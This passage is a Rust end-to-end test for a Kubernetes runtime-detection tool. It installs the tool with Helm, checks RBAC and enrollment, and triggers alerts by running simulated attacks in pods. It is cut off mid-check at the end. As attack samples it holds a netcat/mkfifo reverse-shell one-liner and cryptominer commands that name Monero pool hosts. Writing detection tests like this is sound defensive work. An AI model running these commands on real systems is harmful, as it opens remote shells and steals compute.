//! `make e2e-k8s`, node side (issue 13): Kestrel installed with Helm on a
//! real kubelet, watching real pods.
//!
//! What is real: etcd, the control plane, containerd and a kubelet
//! (`k8s-testenv up --node`, v1.20); the two images built from the release
//! binaries (`scripts/images.sh`) and loaded into containerd; the chart
//! (`deploy/helm/kestrel`) installed with `helm install --wait`; the agent
//! DaemonSet loading its BPF programs in a pod with capabilities (not
//! privileged), enrolling with its projected ServiceAccount token; the
//! operator Deployment with the embedding model; busybox pods of a
//! Deployment; attacks run with `kubectl exec`.
//!
//! What this environment changes, in values only (`values-e2e`, below):
//! there is no kube-proxy and no cluster DNS, so the operator runs with
//! `hostNetwork` and the agent reaches it at the node's IP (the TLS name
//! checked is still the Service's); this VM's root has no
//! `CAP_SYS_RESOURCE` (so no container can get it), which kernels since 5.11
//! do not need for BPF, so the agent's capability list leaves it out.
//!
//! Checks (each prints PASS or FAIL with what it saw):
//! 1. install (a Deployment in namespace `legacy` already running): operator and agent Ready, CRDs Established, the agent
//!    enrolled for this node; `kubectl auth can-i` for each ServiceAccount:
//!    what it needs, and not Secrets, `pods/exec`, or anything else;
//! 2. the `legacy` workload's profile is marked `Partial`
//!    (`StartedBeforeAgent`: the `/proc` scan found it); a 3-replica busybox Deployment with changing timestamps and request
//!    ids goes Learning → Detecting (`kubectl get bp`); a miner-like
//!    command, then a reverse shell, `kubectl exec`'d into one replica make
//!    SecurityAlerts naming that pod; `kubectl describe` reads as an
//!    incident report; the other replicas raise nothing;
//! 3. a rollout that changes the Deployment's arguments raises nothing of
//!    severity High or above, and relearning is suggested (an Event on the
//!    profile);
//! 4. the agent pod deleted, then the operator pod: learning goes on, one
//!    profile and one alert object per incident (repeats update the count),
//!    a command run while the operator is away arrives once it is back;
//! 5. `helm upgrade` rolls the operator with a changed setting;
//!    `helm uninstall` leaves only what the docs say (the CRDs and their
//!    objects, Events and the leader Lease);
//! 6. the agent's memory (peak RSS) and CPU through all of it.

use anyhow::{bail, Context, Result};
use kestrel_e2e::k8s::{poll, Report, TestEnv};
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

const KNS: &str = "kestrel";
const NS: &str = "shop";
/// The namespace of the workload that was running before the install.
const LEGACY: &str = "legacy";
const NODE: &str = "testenv-node";
const BUSYBOX: &str = "k8s-testenv.local/busybox:1.35";

/// The replicas' loop: a request line with a changing id and timestamp
/// from a sub-shell, a config read, a sleep whose length is the
/// container's argument (`--interval=N`), so a rollout can change it.
const LOOP: &str = r#"i=0
while true; do
  i=$((i+1))
  sh -c "echo GET /api/items?id=$i ts=$(date +%s) >> /tmp/access.log"
  cat /etc/hostname > /dev/null
  if [ "$2" = --warm-cache ]; then ls /tmp > /dev/null; fi
  sleep ${1#--interval=}
done"#;

const MINER: &str = "cp /bin/busybox /tmp/xmrig; /tmp/xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f -p x";
const REVERSE_SHELL: &str =
    "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc -w 1 127.0.0.1 4444 > /tmp/f";
const LATE_MINER: &str = "cp /bin/busybox /tmp/kdevtmpfsi; /tmp/kdevtmpfsi -o stratum+tcp://pool.supportxmr.com:3333 -u 4AbCdEf -p x";

fn e2e_values() -> String {
    r#"operator:
  hostNetwork: true
  profileFlushSecs: 5
  alertUpdateSecs: 5
  apiWritesPerSec: 50
  apiBurst: 50
agent:
  operatorAddress: "https://$(HOST_IP):7443"
  enrollAddress: "https://$(HOST_IP):7444"
  capabilities: [BPF, PERFMON, SYS_PTRACE, DAC_READ_SEARCH]
  rustLog: "kestrel_agent=info,warn"
config:
  learning:
    window: 4s
    minLearningTime: 16s
    cleanWindows: 1
    maxNewPerWindow: 0
"#
    .to_string()
}

/// The Deployment; `release` 2 is a rollout that changes its arguments
/// (a longer interval and a cache warm-up, a new command in the loop).
fn deployment(release: u32) -> String {
    let args = if release == 1 {
        r#"["--interval=1"]"#
    } else {
        r#"["--interval=2", "--warm-cache"]"#
    };
    let lp = serde_json::to_string(LOOP).unwrap_or_default();
    format!(
        r#"apiVersion: apps/v1
kind: Deployment
metadata: {{name: web, namespace: {NS}}}
spec:
  replicas: 3
  selector: {{matchLabels: {{app: web}}}}
  template:
    metadata: {{labels: {{app: web}}}}
    spec:
      terminationGracePeriodSeconds: 1
      containers:
      - name: web
        image: {BUSYBOX}
        imagePullPolicy: IfNotPresent
        command: ["sh", "-c", {lp}, "web"]
        args: {args}
"#
    )
}

/// A workload that runs before Kestrel is installed: its processes are
/// found by the agent's start-up `/proc` scan, and its profile is marked
/// `Partial` (`StartedBeforeAgent`).
fn legacy_deployment() -> String {
    format!(
        r#"apiVersion: apps/v1
kind: Deployment
metadata: {{name: old, namespace: {LEGACY}}}
spec:
  replicas: 1
  selector: {{matchLabels: {{app: old}}}}
  template:
    metadata: {{labels: {{app: old}}}}
    spec:
      terminationGracePeriodSeconds: 1
      containers:
      - name: old
        image: {BUSYBOX}
        imagePullPolicy: IfNotPresent
        command: ["sh", "-c", "while true; do sleep 5; done"]
"#
    )
}

fn repo_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
}

fn json(env: &TestEnv, args: &[&str]) -> Result<Value> {
    let mut a: Vec<&str> = args.to_vec();
    a.extend(["-o", "json"]);
    Ok(serde_json::from_str(&env.kubectl(&a)?)?)
}

fn items(v: &Value) -> Vec<Value> {
    v["items"].as_array().cloned().unwrap_or_default()
}

fn name(v: &Value) -> String {
    v["metadata"]["name"]
        .as_str()
        .unwrap_or_default()
        .to_string()
}

/// The running, ready pods of `selector` in `ns`, by name.
fn ready_pods(env: &TestEnv, ns: &str, selector: &str) -> Vec<String> {
    let Ok(v) = json(env, &["get", "pods", "-n", ns, "-l", selector]) else {
        return Vec::new();
    };
    let mut out: Vec<String> = items(&v)
        .iter()
        .filter(|p| p["metadata"]["deletionTimestamp"].is_null())
        .filter(|p| {
            p["status"]["conditions"].as_array().is_some_and(|c| {
                c.iter()
                    .any(|c| c["type"] == "Ready" && c["status"] == "True")
            })
        })
        .map(name)
        .collect();
    out.sort();
    out
}

/// `kubectl exec` of `sh -c command` in `pod`, bounded by `limit`.
fn exec(env: &TestEnv, pod: &str, command: &str, limit: Duration) -> Result<()> {
    let mut child = Command::new(env.bin.join("kubectl"))
        .args(["exec", "-n", NS, pod, "--", "sh", "-c", command])
        .env("KUBECONFIG", &env.kubeconfig)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()?;
    let t = Instant::now();
    while t.elapsed() < limit {
        if child.try_wait()?.is_some() {
            return Ok(());
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    let _ = child.kill();
    let _ = child.wait();
    Ok(())
}

/// The agent's process on this host (hostPID: it is a host process), its
/// RSS and CPU sampled every second.
#[derive(Default)]
struct Usage {
    samples: Vec<(f64, u64, f64)>,
    peak_hwm_kib: u64,
}

fn agent_pids() -> Vec<u32> {
    let mut out = Vec::new();
    if let Ok(rd) = std::fs::read_dir("/proc") {
        for e in rd.flatten() {
            let Ok(pid) = e.file_name().to_string_lossy().parse::<u32>() else {
                continue;
            };
            let cmd = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
            let mut parts = cmd.split(|b| *b == 0);
            let first = parts.next().unwrap_or_default();
            if first.ends_with(b"kestrel-agent") && parts.next() == Some(b"run".as_slice()) {
                out.push(pid);
            }
        }
    }
    out
}

fn status_kib(pid: u32, field: &str) -> Option<u64> {
    let s = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    s.lines()
        .find(|l| l.starts_with(field))?
        .split_whitespace()
        .nth(1)?
        .parse()
        .ok()
}

fn cpu_ticks(pid: u32) -> Option<u64> {
    let s = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    let rest = &s[s.rfind(')')? + 2..];
    let f: Vec<&str> = rest.split_whitespace().collect();
    Some(f.get(11)?.parse::<u64>().ok()? + f.get(12)?.parse::<u64>().ok()?)
}

fn sample_agent(stop: Arc<AtomicBool>, usage: Arc<Mutex<Usage>>) -> std::thread::JoinHandle<()> {
    std::thread::spawn(move || {
        let t0 = Instant::now();
        let tick = 100.0; // USER_HZ
        let mut last: Option<(u32, u64, Instant)> = None;
        while !stop.load(Ordering::Relaxed) {
            if let Some(&pid) = agent_pids().first() {
                let rss = status_kib(pid, "VmRSS:").unwrap_or(0);
                let hwm = status_kib(pid, "VmHWM:").unwrap_or(0);
                let ticks = cpu_ticks(pid).unwrap_or(0);
                let now = Instant::now();
                let cpu = match last {
                    Some((p, t, at)) if p == pid => {
                        (ticks.saturating_sub(t) as f64 / tick)
                            / now.duration_since(at).as_secs_f64()
                            * 100.0
                    }
                    _ => 0.0,
                };
                last = Some((pid, ticks, now));
                if let Ok(mut u) = usage.lock() {
                    u.samples.push((t0.elapsed().as_secs_f64(), rss, cpu));
                    u.peak_hwm_kib = u.peak_hwm_kib.max(hwm);
                }
            }
            std::thread::sleep(Duration::from_secs(1));
        }
    })
}

/// One stage of the run; a failed stage skips the later ones.
type Step = fn(&TestEnv, &Path, &mut Report) -> Result<()>;

fn main() -> Result<()> {
    let t0 = Instant::now();
    if !kestrel_e2e::require_privileged() {
        bail!("the cluster end-to-end test needs root (a kubelet and BPF)");
    }
    let work = std::env::temp_dir().join(format!("kestrel-e2e-cluster-{}", std::process::id()));
    std::fs::create_dir_all(&work)?;
    println!("== node (k8s-testenv up --node) ==");
    let env = TestEnv::up_node(work.join("kt"))?;
    println!("   up after {:.1}s", t0.elapsed().as_secs_f64());
    let mut report = Report::default();

    let t = Instant::now();
    let images = work.join("images");
    let st = Command::new(repo_root().join("scripts/images.sh"))
        .arg("--out")
        .arg(&images)
        .status()
        .context("scripts/images.sh")?;
    if !st.success() {
        bail!("building the images failed ({st})");
    }
    env.load_image(&images.join("kestrel-operator.tar"))?;
    env.load_image(&images.join("kestrel-agent.tar"))?;
    println!(
        "   images built and loaded: {:.1}s",
        t.elapsed().as_secs_f64()
    );

    let stop = Arc::new(AtomicBool::new(false));
    let usage = Arc::new(Mutex::new(Usage::default()));
    let sampler = sample_agent(Arc::clone(&stop), Arc::clone(&usage));

    let steps: [(&str, Step); 5] = [
        ("install", install),
        ("learn and detect", learn_and_detect),
        ("rollout", rollout),
        ("restarts", restarts),
        ("upgrade and uninstall", upgrade_and_uninstall),
    ];
    let mut ok = true;
    for (step, f) in steps {
        let t = Instant::now();
        if ok {
            if let Err(e) = f(&env, &work, &mut report) {
                report.check(step, false, format!("{e:#}"));
                ok = false;
                dump_logs(&env);
            }
        }
        println!("   {step}: {:.1}s", t.elapsed().as_secs_f64());
    }
    stop.store(true, Ordering::Relaxed);
    let _ = sampler.join();
    agent_usage(&usage, &work, &mut report);

    println!(
        "\n== report: {} checks, {} failed, {:.0}s ==",
        report.rows.len(),
        report.failed(),
        t0.elapsed().as_secs_f64()
    );
    for (n, pass, _) in &report.rows {
        println!("  {} {n}", if *pass { "PASS" } else { "FAIL" });
    }
    drop(env);
    if report.failed() > 0 {
        eprintln!("work directory kept: {}", work.display());
        bail!("{} check(s) failed", report.failed());
    }
    let _ = std::fs::remove_dir_all(&work);
    Ok(())
}

fn dump_logs(env: &TestEnv) {
    for (what, sel) in [
        ("operator", "app.kubernetes.io/component=operator"),
        ("agent", "app.kubernetes.io/component=agent"),
    ] {
        if let Ok(out) = env.kubectl(&["logs", "-n", KNS, "-l", sel, "--tail", "40"]) {
            eprintln!("--- {what} log (last 40 lines) ---\n{out}");
        }
    }
    if let Ok(out) = env.kubectl(&["get", "pods", "-A", "-o", "wide"]) {
        eprintln!("--- pods ---\n{out}");
    }
}

/// Enrollment with tokens that are not the agent pod's: each refused in
/// words, as the agent logs it (the real agent binary on this host,
/// against the operator's enrollment port).
fn refused_tokens(env: &TestEnv, work: &Path, r: &mut Report) -> Result<()> {
    let ca = env.kubectl(&[
        "get",
        "secret",
        "-n",
        KNS,
        "kestrel-tls",
        "-o",
        "jsonpath={.data.ca\\.pem}",
    ])?;
    let b64 = work.join("ca.pem.b64");
    std::fs::write(&b64, ca.trim())?;
    let ca_file = work.join("ca.pem");
    let decoded = Command::new("base64").arg("-d").arg(&b64).output()?;
    if !decoded.status.success() {
        bail!("the TLS Secret's ca.pem is not base64");
    }
    std::fs::write(&ca_file, decoded.stdout)?;
    let agent = kestrel_e2e::sibling_binary("kestrel-agent")?;
    let cases = [
        (
            vec![
                "create",
                "token",
                "default",
                "-n",
                "default",
                "--audience",
                "kestrel",
            ],
            "another ServiceAccount's token",
            "may enroll as a node agent",
        ),
        (
            vec!["create", "token", "kestrel-agent", "-n", KNS],
            "the agent's token for the API server's audience",
            "audience",
        ),
        (
            vec![
                "create",
                "token",
                "kestrel-agent",
                "-n",
                KNS,
                "--audience",
                "kestrel",
            ],
            "the agent's token bound to no pod",
            "not bound to a pod",
        ),
    ];
    for (i, (args, what, words)) in cases.iter().enumerate() {
        let token = env.kubectl(args)?;
        let token_file = work.join(format!("token-{i}"));
        std::fs::write(&token_file, token.trim())?;
        let mut child = Command::new(&agent)
            .args([
                "run",
                "--enroll",
                "https://127.0.0.1:7444",
                "--operator",
                "https://127.0.0.1:7443",
            ])
            .arg("--token-file")
            .arg(&token_file)
            .arg("--ca-file")
            .arg(&ca_file)
            .args([
                "--server-name",
                "kestrel-operator.kestrel.svc",
                "--node",
                NODE,
            ])
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::piped())
            .spawn()?;
        std::thread::sleep(Duration::from_secs(3));
        let _ = child.kill();
        let out = child.wait_with_output()?;
        let err = String::from_utf8_lossy(&out.stderr);
        let line = err
            .lines()
            .find(|l| l.contains("enrollment failed"))
            .unwrap_or("")
            .to_string();
        r.check(
            &format!("enrollment with {what} is refused in words"),
            line.contains(words) && !err.contains("enrolled:"),
            if line.is_empty() {
                err.trim().to_string()
            } else {
                line
            },
        );
    }
    Ok(())
}

fn install(env: &TestEnv, work: &Path, r: &mut Report) -> Result<()> {
    env.kubectl(&["create", "namespace", LEGACY])?;
    env.kubectl_stdin(&["apply", "-f", "-"], Some(&legacy_deployment()))?;
    poll(Duration::from_secs(90), || {
        (ready_pods(env, LEGACY, "app=old").len() == 1).then_some(())
    })
    .context("the legacy Deployment did not become Ready before the install")?;
    let values = work.join("values-e2e.yaml");
    std::fs::write(&values, e2e_values())?;
    let chart = repo_root().join("deploy/helm/kestrel");
    let t = Instant::now();
    let out = env.helm(&[
        "install",
        "kestrel",
        &chart.to_string_lossy(),
        "-n",
        KNS,
        "--create-namespace",
        "-f",
        &values.to_string_lossy(),
        "--wait",
        "--timeout",
        "4m",
    ]);
    r.check(
        "helm install --wait",
        out.is_ok(),
        match &out {
            Ok(_) => format!("deployed in {:.1}s", t.elapsed().as_secs_f64()),
            Err(e) => format!("{e:#}"),
        },
    );
    out?;
    let op = ready_pods(env, KNS, "app.kubernetes.io/component=operator");
    let ag = ready_pods(env, KNS, "app.kubernetes.io/component=agent");
    r.check(
        "operator and agent Ready",
        op.len() == 1 && ag.len() == 1,
        format!("operator {op:?}, agent {ag:?}"),
    );
    let crds = env.kubectl(&[
        "get",
        "crd",
        "behaviorprofiles.kestrel.dev",
        "securityalerts.kestrel.dev",
        "-o",
        "jsonpath={range .items[*]}{.metadata.name}={.status.conditions[?(@.type==\"Established\")].status} {end}",
    ])?;
    r.check(
        "CRDs Established",
        crds.matches("=True").count() == 2,
        crds.trim().to_string(),
    );
    // the agent enrolled with its token and the operator certified this node
    let enrolled = poll(Duration::from_secs(60), || {
        let log = env
            .kubectl(&[
                "logs",
                "-n",
                KNS,
                "-l",
                "app.kubernetes.io/component=agent",
                "--tail",
                "-1",
            ])
            .ok()?;
        log.lines()
            .find(|l| l.contains("enrolled") && l.contains(NODE))
            .map(str::to_string)
    });
    r.check(
        "the agent enrolled with its ServiceAccount token for its node",
        enrolled.is_some(),
        enrolled.unwrap_or_else(|| "no \"enrolled\" line in the agent's log".into()),
    );
    refused_tokens(env, work, r)?;
    // least privilege, as the API server's authorizer answers it
    let op_sa = format!("system:serviceaccount:{KNS}:kestrel-operator");
    let ag_sa = format!("system:serviceaccount:{KNS}:kestrel-agent");
    let cases: Vec<(&str, Vec<&str>, bool)> = vec![
        (&op_sa, vec!["watch", "pods", "--all-namespaces"], true),
        (
            &op_sa,
            vec!["watch", "replicasets.apps", "--all-namespaces"],
            true,
        ),
        (
            &op_sa,
            vec!["create", "behaviorprofiles.kestrel.dev", "-n", NS],
            true,
        ),
        (
            &op_sa,
            vec![
                "patch",
                "securityalerts.kestrel.dev",
                "--subresource=status",
                "-n",
                NS,
            ],
            true,
        ),
        (
            &op_sa,
            vec!["create", "tokenreviews.authentication.k8s.io"],
            true,
        ),
        (
            &op_sa,
            vec![
                "patch",
                "leases.coordination.k8s.io/kestrel-operator",
                "-n",
                KNS,
            ],
            true,
        ),
        (
            &op_sa,
            vec![
                "patch",
                "leases.coordination.k8s.io/kube-scheduler",
                "-n",
                "kube-system",
            ],
            false,
        ),
        (&op_sa, vec!["get", "secrets", "-n", KNS], false),
        (&op_sa, vec!["list", "secrets", "--all-namespaces"], false),
        (
            &op_sa,
            vec!["create", "pods", "--subresource=exec", "-n", NS],
            false,
        ),
        (&op_sa, vec!["delete", "pods", "-n", NS], false),
        (&op_sa, vec!["update", "deployments.apps", "-n", NS], false),
        (&ag_sa, vec!["get", "secrets", "-n", KNS], false),
        (&ag_sa, vec!["list", "pods", "--all-namespaces"], false),
        (
            &ag_sa,
            vec!["create", "pods", "--subresource=exec", "-n", NS],
            false,
        ),
        (
            &ag_sa,
            vec!["create", "tokenreviews.authentication.k8s.io"],
            false,
        ),
    ];
    let mut wrong = Vec::new();
    for (who, what, want) in &cases {
        let as_arg = format!("--as={who}");
        let mut args = vec!["auth", "can-i"];
        args.extend(what.iter().copied());
        args.push(&as_arg);
        let (_, out, _) = env.run_kubectl(&args, None)?;
        let got = out.trim() == "yes";
        if got != *want {
            wrong.push(format!(
                "{} {}: {}",
                who.rsplit(':').next().unwrap_or(who),
                what.join(" "),
                out.trim()
            ));
        }
    }
    r.check(
        "each ServiceAccount can do what it needs and nothing more (kubectl auth can-i)",
        wrong.is_empty(),
        if wrong.is_empty() {
            format!("{} answers as expected (operator: no Secrets, no pods/exec; agent: no API rights at all)", cases.len())
        } else {
            wrong.join("; ")
        },
    );
    Ok(())
}

/// The profile of shop/Deployment/web: (phase, name).
fn profile_phase(env: &TestEnv) -> Option<(String, String)> {
    let v = json(env, &["get", "behaviorprofiles", "-n", NS]).ok()?;
    let p = items(&v)
        .into_iter()
        .find(|p| p["spec"]["workload"]["name"] == "web" || name(p) == "deployment-web")?;
    Some((p["status"]["phase"].as_str()?.to_string(), name(&p)))
}

fn alerts(env: &TestEnv) -> Vec<Value> {
    json(env, &["get", "securityalerts", "-n", NS])
        .map(|v| items(&v))
        .unwrap_or_default()
}

fn alert_pod(a: &Value) -> String {
    a["spec"]["evidence"]["pod"]
        .as_str()
        .unwrap_or_default()
        .to_string()
}

fn alert_text(a: &Value) -> String {
    a["spec"].to_string()
}

fn learn_and_detect(env: &TestEnv, _work: &Path, r: &mut Report) -> Result<()> {
    // the workload that was running before the agent: found by the /proc
    // scan, its profile marked Partial
    let partial = poll(Duration::from_secs(60), || {
        let v = json(env, &["get", "behaviorprofiles", "-n", LEGACY]).ok()?;
        items(&v).into_iter().find_map(|p| {
            p["status"]["conditions"]
                .as_array()?
                .iter()
                .find(|c| c["type"] == "Partial")
                .cloned()
                .map(|c| (name(&p), c))
        })
    });
    r.check(
        "a workload running before the agent: its profile is marked Partial (StartedBeforeAgent)",
        partial.as_ref().is_some_and(|(_, c)| {
            c["status"] == "True"
                && c["reason"] == "StartedBeforeAgent"
                && c["message"]
                    .as_str()
                    .is_some_and(|m| m.contains("in pod old-"))
        }),
        match &partial {
            Some((n, c)) => format!("{LEGACY}/{n}: {}: {}", c["reason"], c["message"]),
            None => format!(
                "no Partial condition in namespace {LEGACY}: {}",
                env.kubectl(&["get", "bp", "-n", LEGACY])
                    .unwrap_or_else(|e| format!("{e:#}"))
            ),
        },
    );
    env.kubectl(&["create", "namespace", NS])?;
    env.kubectl_stdin(&["apply", "-f", "-"], Some(&deployment(1)))?;
    let pods = poll(Duration::from_secs(90), || {
        let p = ready_pods(env, NS, "app=web");
        (p.len() == 3).then_some(p)
    })
    .context("the web replicas did not become Ready")?;
    let t = Instant::now();
    let mut phases: Vec<String> = Vec::new();
    let detecting = poll(Duration::from_secs(150), || {
        let (phase, _) = profile_phase(env)?;
        if phases.last() != Some(&phase) {
            phases.push(phase.clone());
        }
        (phase == "Detecting").then_some(())
    });
    r.check(
        "the Deployment's profile goes Learning → Detecting",
        detecting.is_some() && phases.first().map(String::as_str) == Some("Learning"),
        format!(
            "phases seen {phases:?} in {:.0}s",
            t.elapsed().as_secs_f64()
        ),
    );
    detecting.context("the profile never reached Detecting")?;
    let out = env.kubectl(&["get", "bp", "-n", NS])?;
    println!("{out}");
    // the node's agent got its pods' containers from the operator and
    // filters per workload at the edge: the replicas' loop stays on the node
    let matched = poll(Duration::from_secs(30), || {
        let m = metrics();
        let n = metric(
            &m,
            &format!("kestrel_operator_edge_matched_total{{node=\"{NODE}\"}}"),
        );
        (n > 0.0).then_some((
            n,
            metric(&m, "kestrel_operator_enrollments_total{result=\"issued\"}"),
        ))
    });
    r.check(
        "the agent filters per workload at the edge (events matched on the node, never sent)",
        matched.is_some_and(|(_, issued)| issued >= 1.0),
        match matched {
            Some((n, issued)) => {
                format!("{n} events matched on {NODE}; {issued} certificate(s) issued")
            }
            None => "kestrel_operator_edge_matched_total stayed 0".into(),
        },
    );

    // the attacks, in the first replica
    let victim = pods[0].clone();
    let others: Vec<String> = pods[1..].to_vec();
    exec(env, &victim, MINER, Duration::from_secs(10))?;
    let miner = poll(Duration::from_secs(60), || {
        alerts(env)
            .into_iter()
            .find(|a| alert_pod(a) == victim && alert_text(a).contains("xmrig"))
    });
    r.check(
        "a miner-like command in one replica: a SecurityAlert naming that pod",
        miner.is_some(),
        match &miner {
            Some(a) => format!(
                "{} {} {} pod {}",
                name(a),
                a["spec"]["severity"],
                a["spec"]["title"],
                alert_pod(a)
            ),
            None => format!(
                "none for {victim}; alerts: {:?}",
                alerts(env).iter().map(name).collect::<Vec<_>>()
            ),
        },
    );
    exec(env, &victim, REVERSE_SHELL, Duration::from_secs(10))?;
    let shell = poll(Duration::from_secs(60), || {
        alerts(env).into_iter().find(|a| {
            let t = alert_text(a);
            alert_pod(a) == victim
                && (t.contains("nc ") || t.contains("\"nc\"") || t.contains("/bin/sh -i"))
        })
    });
    r.check(
        "a reverse shell in the same replica: a SecurityAlert naming that pod",
        shell.is_some(),
        match &shell {
            Some(a) => format!(
                "{} {} {}",
                name(a),
                a["spec"]["severity"],
                a["spec"]["title"]
            ),
            None => format!(
                "alerts: {:?}",
                alerts(env)
                    .iter()
                    .map(|a| (name(a), a["spec"]["title"].clone()))
                    .collect::<Vec<_>>()
            ),
        },
    );
    if let Some(a) = &miner {
        let d = env.kubectl(&["describe", "securityalert", "-n", NS, &name(a)])?;
        let wanted = [
            "Severity",
            "Evidence",
            victim.as_str(),
            "xmrig",
            "Recommendation",
        ];
        let missing: Vec<&&str> = wanted.iter().filter(|w| !d.contains(**w)).collect();
        r.check(
            "kubectl describe securityalert reads as an incident report",
            missing.is_empty(),
            if missing.is_empty() {
                format!(
                    "{} lines: severity, evidence with the pod and the command, recommendation",
                    d.lines().count()
                )
            } else {
                format!("missing {missing:?} in:\n{d}")
            },
        );
    }
    // let the other replicas run on; none of them may alert
    std::thread::sleep(Duration::from_secs(8));
    let stray: Vec<String> = alerts(env)
        .iter()
        .filter(|a| others.contains(&alert_pod(a)))
        .map(|a| format!("{} ({})", name(a), alert_pod(a)))
        .collect();
    r.check(
        "the other replicas raise nothing",
        stray.is_empty(),
        if stray.is_empty() {
            format!("no alert names {others:?}")
        } else {
            stray.join(", ")
        },
    );
    Ok(())
}

/// The operator's `/metrics` (hostNetwork: port 8080 on this host).
fn metrics() -> String {
    use std::io::{Read as _, Write as _};
    let Ok(mut c) = std::net::TcpStream::connect("127.0.0.1:8080") else {
        return String::new();
    };
    let _ = c.set_read_timeout(Some(Duration::from_secs(5)));
    let _ = c.write_all(b"GET /metrics HTTP/1.0\r\nHost: localhost\r\n\r\n");
    let mut out = String::new();
    let _ = c.read_to_string(&mut out);
    out
}

/// A sample's value in `/metrics` text.
fn metric(text: &str, series: &str) -> f64 {
    text.lines()
        .find(|l| l.starts_with(series))
        .and_then(|l| l.rsplit(' ').next())
        .and_then(|v| v.parse().ok())
        .unwrap_or(0.0)
}

fn severity_rank(s: &str) -> u8 {
    match s {
        "Critical" => 4,
        "High" => 3,
        "Medium" => 2,
        "Low" => 1,
        _ => 0,
    }
}

fn rollout(env: &TestEnv, _work: &Path, r: &mut Report) -> Result<()> {
    let before: Vec<String> = alerts(env).iter().map(name).collect();
    let old = ready_pods(env, NS, "app=web");
    env.kubectl_stdin(&["apply", "-f", "-"], Some(&deployment(2)))?;
    env.kubectl(&[
        "rollout",
        "status",
        "deployment/web",
        "-n",
        NS,
        "--timeout=120s",
    ])?;
    let new: Vec<String> = ready_pods(env, NS, "app=web")
        .into_iter()
        .filter(|p| !old.contains(p))
        .collect();
    // the new replicas run their loop a while
    std::thread::sleep(Duration::from_secs(15));
    let high: Vec<String> = alerts(env)
        .iter()
        .filter(|a| !before.contains(&name(a)))
        .filter(|a| severity_rank(a["spec"]["severity"].as_str().unwrap_or("")) >= 3)
        .map(|a| {
            format!(
                "{} {} {}",
                name(a),
                a["spec"]["severity"],
                a["spec"]["title"]
            )
        })
        .collect();
    r.check(
        "a rollout changing the arguments raises nothing of severity High or above",
        high.is_empty() && new.len() == 3,
        if high.is_empty() {
            format!("new replicas {new:?}; no new High alert")
        } else {
            high.join("; ")
        },
    );
    let suggested = poll(Duration::from_secs(30), || {
        let v = json(
            env,
            &[
                "get",
                "events",
                "-n",
                NS,
                "--field-selector",
                "reason=RelearnSuggested",
            ],
        )
        .ok()?;
        items(&v)
            .first()
            .map(|e| format!("{}: {}", e["involvedObject"]["name"], e["message"]))
    });
    r.check(
        "relearning is suggested (an Event on the profile)",
        suggested.is_some(),
        suggested.unwrap_or_else(|| "no RelearnSuggested event".into()),
    );
    Ok(())
}

fn alert_count(a: &Value) -> u64 {
    a["status"]["count"].as_u64().unwrap_or(0)
}

fn restarts(env: &TestEnv, _work: &Path, r: &mut Report) -> Result<()> {
    let victim = ready_pods(env, NS, "app=web")
        .first()
        .cloned()
        .context("no web replica")?;
    // the agent pod: the DaemonSet makes a new one, which enrolls again
    let agent = ready_pods(env, KNS, "app.kubernetes.io/component=agent");
    let first = agent.first().context("no agent pod")?;
    env.kubectl(&["delete", "pod", "-n", KNS, first, "--wait=true"])?;
    let t = Instant::now();
    let back = poll(Duration::from_secs(90), || {
        let now = ready_pods(env, KNS, "app.kubernetes.io/component=agent");
        (now.len() == 1 && now != agent).then_some(now)
    });
    r.check(
        "a deleted agent pod is replaced and Ready",
        back.is_some(),
        format!("{back:?} after {:.0}s", t.elapsed().as_secs_f64()),
    );
    // a miner after the agent's restart: caught, and one alert object per
    // incident (the earlier miner's object counts it if it is the same)
    std::thread::sleep(Duration::from_secs(3));
    let miners_before: Vec<(String, u64)> = alerts(env)
        .iter()
        .filter(|a| alert_text(a).contains("xmrig"))
        .map(|a| (name(a), alert_count(a)))
        .collect();
    exec(env, &victim, MINER, Duration::from_secs(10))?;
    let seen = poll(Duration::from_secs(60), || {
        let now: Vec<(String, u64, String)> = alerts(env)
            .iter()
            .filter(|a| alert_text(a).contains("xmrig"))
            .map(|a| (name(a), alert_count(a), alert_pod(a)))
            .collect();
        now.iter()
            .any(|(n, c, p)| p == &victim || miners_before.iter().any(|(bn, bc)| bn == n && c > bc))
            .then_some(now)
    });
    r.check(
        "after the agent's restart a miner is caught again",
        seen.is_some(),
        format!("{seen:?} (before {miners_before:?})"),
    );

    // the operator pod: a command run while it is away is delivered later
    let op = ready_pods(env, KNS, "app.kubernetes.io/component=operator");
    let first = op.first().context("no operator pod")?;
    env.kubectl(&["delete", "pod", "-n", KNS, first, "--wait=false"])?;
    std::thread::sleep(Duration::from_secs(1));
    exec(env, &victim, LATE_MINER, Duration::from_secs(10))?;
    let t = Instant::now();
    let back = poll(Duration::from_secs(120), || {
        let now = ready_pods(env, KNS, "app.kubernetes.io/component=operator");
        (now.len() == 1 && now != op).then_some(now)
    });
    r.check(
        "a deleted operator pod is replaced, leads and is Ready",
        back.is_some(),
        format!("{back:?} after {:.0}s", t.elapsed().as_secs_f64()),
    );
    let late = poll(Duration::from_secs(90), || {
        alerts(env)
            .into_iter()
            .find(|a| alert_text(a).contains("kdevtmpfsi"))
    });
    r.check(
        "a miner run while the operator was away is alerted once it is back (buffered by the agent)",
        late.is_some(),
        match &late {
            Some(a) => format!("{} {} pod {}", name(a), a["spec"]["severity"], alert_pod(a)),
            None => "no alert for kdevtmpfsi".into(),
        },
    );
    // no duplicates: one profile for the workload, one object per alert id
    let bps = json(env, &["get", "behaviorprofiles", "-n", NS])?;
    let profiles: Vec<String> = items(&bps).iter().map(name).collect();
    let all = alerts(env);
    let mut ids: Vec<String> = all
        .iter()
        .map(|a| a["spec"]["id"].as_str().unwrap_or_default().to_string())
        .collect();
    let n = ids.len();
    ids.sort();
    ids.dedup();
    r.check(
        "no duplicate profiles or alerts across the restarts",
